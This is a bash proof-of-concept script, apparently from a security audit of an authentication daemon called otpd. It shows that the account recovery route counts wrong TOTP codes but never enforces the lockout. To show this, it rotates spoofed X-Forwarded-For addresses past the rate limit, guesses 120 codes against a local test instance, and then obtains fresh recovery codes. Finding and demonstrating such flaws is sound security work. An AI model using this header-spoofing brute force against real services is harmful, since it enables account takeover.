#!/bin/bash
# Finding 05: /account/recovery (new recovery codes) and /account/authenticator take the current TOTP
# with only the per-client try bucket (ip_tries_per_hour, the 't' bucket) in front: they count each wrong
# code toward the address's failure count (max_failed_tries) but never CHECK it, unlike the MFA step
# (flow_locked_out). So someone holding a full session cookie (finding 01: any resource's application
# gets one) and several client addresses (an IPv6 /48 is 65,536 /64 buckets) guesses the guest's TOTP
# at /account/recovery without the per-address bound; the right guess hands them 10 fresh recovery codes.
# docs/security.md L3 says these tries "count like the MFA step's".
#
# Here: ip_tries_per_hour = 5 and every request from a new X-Forwarded-For (otpd's trusted proxy is
# 127.0.0.1), 120 wrong TOTP codes (max_failed_tries = 100) at /account/recovery: never locked; then the
# right TOTP gets new recovery codes. (At /mfa/verify, check_txn refuses once the count reached
# max_failed_tries for a session created before the last failure: "address_locked", 429.)
#
# Run from the tree after `make -j2 all test-bins`: bash findings/05-account-totp-no-address-bound.sh
# Exit 1: the attack works (new recovery codes after > max_failed_tries wrong codes); 0: refused; 2: setup.
cd "$(dirname "$0")/.." || exit 2
export OTPD_TEST_CHECKS=0
. tests/otpd/lib.sh
fail() { echo "SETUP FAILED: $*" >&2; [ -f "$T/otpd.log" ] && tail -5 "$T/otpd.log" >&2; exit 2; }
setup "mail_interval = 0s" "mails_per_hour = 100" "ip_tries_per_hour = 5" "max_failed_tries = 100"
start_sink
start_otpd
tok=$(token guest@example.net) || fail mktoken
html_accept "$tok" guest@example.net
setup_page
[ "$(mfa_post /mfa/setup "$(totp "$SECRET")")" = 200 ] || fail "enrolment"
[ "$(auth "$RESOURCE")" = 200 ] || fail "/auth"
# The thief's copy of the full session cookie (the guest's own jar here).
[ "$(page "$BASE/account")" = 200 ] || fail "/account"
csrf=$(csrf_of "$T/pg")
right=$(totp "$SECRET")
codes=""
for i in $(seq 1 120); do
	w=$(printf '%06d' $(( (10#$right + i) % 1000000 )))
	s=$(page -H "X-Forwarded-For: 198.51.$((i / 250)).$((i % 250 + 1))" --data "csrf=$csrf&code=$w" "$BASE/account/recovery")
	codes="$codes $s"
done
echo "120 wrong TOTP codes at /account/recovery, one client address each: $(echo $codes | tr ' ' '\n' | sort | uniq -c | tr '\n' ' ')"
grep -c 'event=address_locked' "$T/otpd.log" | sed 's/^/address_locked logged (count reached max_failed_tries): /'
sleep 31   # a later TOTP step than any used so far
right=$(totp "$SECRET")
s=$(page -H "X-Forwarded-For: 203.0.113.77" --data "csrf=$csrf&code=$right" "$BASE/account/recovery")
n=$(sed -n 's/.*<li><code>\([^<]*\)<.*/\1/p' "$T/pg" | wc -l)
echo "then the right TOTP at /account/recovery -> $s, $n new recovery codes"
grep "recovery_renewed" "$T/otpd.log" | tail -2
if [ "$s" = 200 ] && [ "$n" = 10 ]; then
	echo "ATTACK WORKS: past max_failed_tries wrong codes the account route still compares and accepts"
	exit 1
fi
echo "refused"
exit 0
